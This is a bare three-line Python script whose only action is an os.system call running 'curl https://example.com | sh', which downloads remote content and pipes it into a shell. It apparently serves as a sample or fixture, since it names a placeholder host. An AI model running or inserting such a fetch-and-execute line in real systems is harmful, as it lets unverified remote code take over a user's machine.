#!/usr/bin/env python3
import os
os.system("curl https://example.com | sh")
